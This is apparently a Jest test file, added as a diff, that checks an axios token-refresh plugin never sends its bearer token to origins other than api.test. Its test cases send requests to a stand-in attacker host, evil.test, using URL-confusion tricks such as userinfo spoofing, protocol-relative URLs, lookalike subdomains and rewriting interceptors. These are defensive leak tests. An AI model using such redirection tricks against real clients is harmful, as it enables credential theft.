@@ -1,0 +1,165 @@
+/**
+ * The token goes only to allowed origins, judged by where axios really sends the request — on
+ * every axios version of the peer range (run with AXIOS_UNDER_TEST=<version>; see jest.config.ts).
+ * A real server answers for api.test (allowed), evil.test and evil.api.test on one port.
+ */
+import { randomBytes } from 'node:crypto';
+import axios, { type AxiosInstance, type AxiosResponse, type CreateAxiosDefaults } from 'axios';
+import { attachTokenRefresh, type TokenRefreshHandle } from '../lib';
+import { startVirtualHosts, testLookup, type VirtualHosts } from './helpers/virtual-hosts';
+
+const ACCESS_TOKEN = `at_${randomBytes(24).toString('base64url')}`;
+
+let hosts: VirtualHosts;
+let refreshes: number;
+const handles: TokenRefreshHandle[] = [];
+
+beforeEach(async () => {
+  refreshes = 0;
+  // api.test accepts the token; everyone else answers 401, which must never trigger a refresh.
+  hosts = await startVirtualHosts((request) =>
+    request.host === 'api.test' && request.headers.authorization === `Bearer ${ACCESS_TOKEN}` ? { body: { ok: true } } : { status: 401 },
+  );
+});
+afterEach(async () => {
+  for (const handle of handles.splice(0)) handle.detach();
+  await hosts.close();
+});
+
+async function attached(defaults: CreateAxiosDefaults = {}, before?: (instance: AxiosInstance) => void): Promise<AxiosInstance> {
+  const instance = axios.create({ baseURL: `${hosts.origin('api.test')}/v1`, lookup: testLookup, ...defaults } as CreateAxiosDefaults);
+  before?.(instance);
+  const handle = attachTokenRefresh(instance, {
+    refresh: async () => {
+      refreshes += 1;
+      return { accessToken: ACCESS_TOKEN, expiresIn: 3600 };
+    },
+  });
+  handles.push(handle);
+  await handle.setToken({ accessToken: ACCESS_TOKEN, refreshToken: `rt_${randomBytes(24).toString('base64url')}`, expiresIn: 3600 });
+  return instance;
+}
+
+/** Requests that carried the token to a host other than api.test. */
+function leaks(): string[] {
+  return hosts.requests.filter((r) => r.host !== 'api.test' && JSON.stringify(r.headers).includes(ACCESS_TOKEN)).map((r) => `${r.host}${r.path}`);
+}
+
+const settle = (promise: Promise<unknown>): Promise<unknown> => promise.then((r) => r, (e: unknown) => e);
+
+describe(`the token reaches allowed origins only (axios ${axios.VERSION})`, () => {
+  it('sends it to the allowed origin, as before', async () => {
+    const api = await attached();
+
+    await api.get('/me');
+
+    expect(hosts.to('api.test')[0]?.headers.authorization).toBe(`Bearer ${ACCESS_TOKEN}`);
+  });
+
+  it('withholds it from an absolute URL on an instance with allowAbsoluteUrls: false, whether or not this axios honours the option', async () => {
+    const api = await attached({ allowAbsoluteUrls: false } as CreateAxiosDefaults);
+
+    await settle(api.get(`${hosts.origin('evil.test')}/steal`));
+
+    // axios < 1.8.2 ignores the option and calls evil.test; later versions call api.test with an odd path.
+    expect(hosts.requests).toHaveLength(1);
+    expect(leaks()).toEqual([]);
+    expect(refreshes).toBe(0);
+  });
+
+  it.each([
+    ['a per-request baseURL', (api: AxiosInstance) => api.get('/x', { baseURL: hosts.origin('evil.test') })],
+    ['a URL object', (api: AxiosInstance) => api.request({ url: new URL(`${hosts.origin('evil.test')}/x`) as unknown as string })],
+    ['a protocol-relative URL', (api: AxiosInstance) => api.get(`//evil.test:${hosts.port}/x`)],
+    ['userinfo that looks like the allowed host', (api: AxiosInstance) => api.get(`http://api.test:${hosts.port}@evil.test:${hosts.port}/x`)],
+    ['an allowed host name as a subdomain of evil', (api: AxiosInstance) => api.get(`http://api.test.evil.test:${hosts.port}/x`)],
+  ])('withholds it from %s', async (_case, send) => {
+    const api = await attached();
+
+    await settle(send(api));
+
+    expect(leaks()).toEqual([]);
+    expect(refreshes).toBe(0);
+  });
+
+  describe('a token copied from an earlier request', () => {
+    let api: AxiosInstance;
+    let earlier: AxiosResponse;
+    beforeEach(async () => {
+      api = await attached();
+      earlier = await api.get('/me');
+      expect(String(earlier.config.headers.get('Authorization'))).toContain(ACCESS_TOKEN);
+    });
+
+    it('is stripped when the whole config is re-sent to another origin', async () => {
+      await settle(api.request({ ...earlier.config, url: `${hosts.origin('evil.test')}/x` }));
+
+      expect(hosts.to('evil.test')).toHaveLength(1);
+      expect(leaks()).toEqual([]);
+    });
+
+    it('is stripped when the headers are re-used for another origin', async () => {
+      await settle(api.get(`${hosts.origin('evil.test')}/x`, { headers: earlier.config.headers }));
+      await settle(api.get(`${hosts.origin('evil.test')}/y`, { headers: { Authorization: `Bearer ${ACCESS_TOKEN}` } }));
+
+      expect(hosts.to('evil.test')).toHaveLength(2);
+      expect(leaks()).toEqual([]);
+    });
+
+    it('is stripped from a tokenFlight.skip request, even to the allowed origin', async () => {
+      await settle(api.get('/public', { headers: earlier.config.headers, tokenFlight: { skip: true } }));
+
+      expect(hosts.to('api.test')[1]?.headers.authorization).toBeUndefined();
+    });
+
+    it("leaves a caller's own, unrelated Authorization header alone", async () => {
+      await settle(api.get(`${hosts.origin('evil.test')}/x`, { headers: { Authorization: 'Bearer the-callers-own-github-token' } }));
+
+      expect(hosts.to('evil.test')[0]?.headers.authorization).toBe('Bearer the-callers-own-github-token');
+    });
+  });
+
+  describe('interceptors that change the destination after the plugin injected the token', () => {
+    it.each([
+      ['an async interceptor registered before attachTokenRefresh', false],
+      ['a synchronous interceptor registered before attachTokenRefresh', true],
+    ])('%s cannot carry the token to another origin', async (_case, synchronous) => {
+      const api = await attached({}, (instance) => {
+        instance.interceptors.request.use(
+          (config) => {
+            config.baseURL = hosts.origin('evil.test');
+            return config;
+          },
+          undefined,
+          { synchronous },
+        );
+      });
+
+      const result = await settle(api.get('/me'));
+
+      expect(hosts.to('evil.test')).toHaveLength(1);
+      expect(leaks()).toEqual([]);
+      // evil.test's 401 is not ours to act on: it comes back as is, and nothing was refreshed.
+      expect(axios.isAxiosError(result) && result.response?.status).toBe(401);
+      expect(refreshes).toBe(0);
+    });
+
+    it('a transformRequest that rewrites the URL cannot carry the token either', async () => {
+      const api = await attached();
+
+      await settle(
+        api.get('/me', {
+          transformRequest: [
+            function (this: { url?: string }, data: unknown) {
+              this.url = `${hosts.origin('evil.test')}/x`;
+              return data;
+            },
+          ],
+        }),
+      );
+
+      expect(hosts.to('evil.test')).toHaveLength(1);
+      expect(leaks()).toEqual([]);
+    });
+  });
+});
